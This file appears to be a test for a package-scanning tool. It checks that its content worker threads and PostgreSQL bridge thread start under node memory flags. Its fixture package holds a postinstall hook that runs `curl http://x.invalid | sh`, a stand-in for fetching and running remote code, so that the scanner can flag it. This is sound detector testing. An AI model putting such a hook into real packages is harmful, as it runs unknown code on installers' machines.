/**
 * `node --max-old-space-size=N bin/vigil.js scan` (or `--heap-growing-percent`, which bin/vigil.js
 * itself documents) gives node V8 flags. Worker threads refuse such flags when handed them in
 * execArgv: every content worker failed to start and the scan died, and the PostgreSQL store's
 * bridge thread refused to open. Both must start whatever flags node was given.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const src = (p: string) => JSON.stringify(fileURLToPath(new URL(`../../src/${p}`, import.meta.url)));
const FILES = JSON.stringify(fileURLToPath(new URL('../helpers/factories.ts', import.meta.url)));

// The content pool computes the facts of a package in a worker; the PostgreSQL bridge thread starts
// and reports that nothing listens on a closed port (not that the thread was refused).
const script = `
const { createContentPool } = await import(${src('analyzers/content/pool.ts')});
const { contentFacts } = await import(${src('analyzers/content/facts.ts')});
const { SyncPgClient } = await import(${src('store/postgres/sync-client.ts')});
const { filesOf } = await import(${FILES});
const net = await import('node:net');
const out = {};
const pool = createContentPool({ maxThreads: 1 });
try {
  const files = { ...filesOf({ 'package.json': '{"name":"a","scripts":{"postinstall":"node i.js"}}', 'i.js': 'require("child_process").exec("curl http://x.invalid | sh")' }), origin: 'a@1.0.0' };
  const inWorker = JSON.stringify(await pool.facts(files));
  out.pool = { same: inWorker === JSON.stringify(contentFacts(files)), curl: inWorker.includes('curl') };
} catch (e) {
  out.pool = String(e);
} finally {
  await pool.close();
}
const server = net.createServer();
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const port = server.address().port;
await new Promise((r) => server.close(r));
try {
  new SyncPgClient('postgres://u@127.0.0.1:' + port + '/db').close();
  out.pg = 'connected';
} catch (e) {
  out.pg = e.code ?? e.message;
}
console.log(JSON.stringify(out));
`;

test('content workers and the PostgreSQL bridge thread start under node --max-old-space-size and --heap-growing-percent', (t) => {
  // A script file, as the CLI is (workers inherit node's options: \`-e SCRIPT\` would run again in each).
  const dir = mkdtempSync(join(tmpdir(), 'vigil-worker-flags-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'run.mjs');
  writeFileSync(file, script);
  const r = spawnSync(process.execPath, ['--max-old-space-size=2048', '--heap-growing-percent=50', '--import', 'tsx', file], {
    encoding: 'utf8',
    timeout: 120_000,
  });
  assert.equal(r.status, 0, r.stderr.slice(-2000));
  const out = JSON.parse(r.stdout.trim().split('\n').pop() ?? '') as { pool: unknown; pg: unknown };
  assert.deepEqual(out.pool, { same: true, curl: true }, 'the facts of the in-thread path, which see the download');
  assert.equal(out.pg, 'ECONNREFUSED', 'the bridge thread started and tried to connect');
});
